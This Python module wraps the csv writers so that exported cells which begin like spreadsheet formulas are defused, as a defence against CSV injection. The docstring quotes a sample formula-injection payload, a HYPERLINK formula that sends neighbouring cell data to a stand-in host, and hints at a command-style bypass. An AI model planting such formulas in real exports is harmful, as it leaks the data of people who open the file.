"""The site's one CSV writer: `csv.writer` and `csv.DictWriter`, with cells that a spreadsheet would run defused.

The open data and the staff downloads hold text people typed (an actor's mandate, a knowledge item's title, an
action's description). A spreadsheet that opens the file runs a cell that starts like a formula, so a title
such as `=HYPERLINK("https://elak.example/?"&A2, "Klicka")` would send the neighbouring cells away, or worse.
OWASP's rule for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection) is followed: a text
cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote (`'`) in front, which
spreadsheets show as text and do not run. Quotes and separators inside a cell are escaped by the csv module.

Numbers are decided by type, not by how they look:

- Python numbers (`int`, `float`, `Decimal`; `bool` too) are written as they are. The code produced them
  (ids, counts), nobody typed them, and a spreadsheet must still read -3 as a number.
- Text is always checked, even text that looks like a number: "-3" typed into a text field gets its quote like
  any other text. A "looks numeric" exemption is where a bypass would hide ("-3+cmd|…" is one character
  further), and OWASP asks for the quote without exceptions. A field that holds a number is a number field.

Every CSV the site sends goes through `writer` or `DictWriter` here; reading CSV (the reference data) does not.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

# OWASP's list: the characters with which a spreadsheet starts a formula or a command.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value` as it may stand in a cell: text that starts like a formula gets a `'` in front; anything else
    (numbers, None, text that starts otherwise) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    """`csv.writer(stream, **fmtparams)` with every cell neutralised. `writerow` returns what the stream's
    `write` returned, so a streaming response can yield it (see audit/views.py)."""

    def __init__(self, stream: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **fmtparams: Any) -> Writer:
    return Writer(stream, **fmtparams)


if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]
else:  # not subscriptable at run time before Python 3.12
    _DictWriter = csv.DictWriter


class DictWriter(_DictWriter):
    """`csv.DictWriter` with every value neutralised (the header too: the column names are ours and never
    start like a formula, so it is written as it is)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
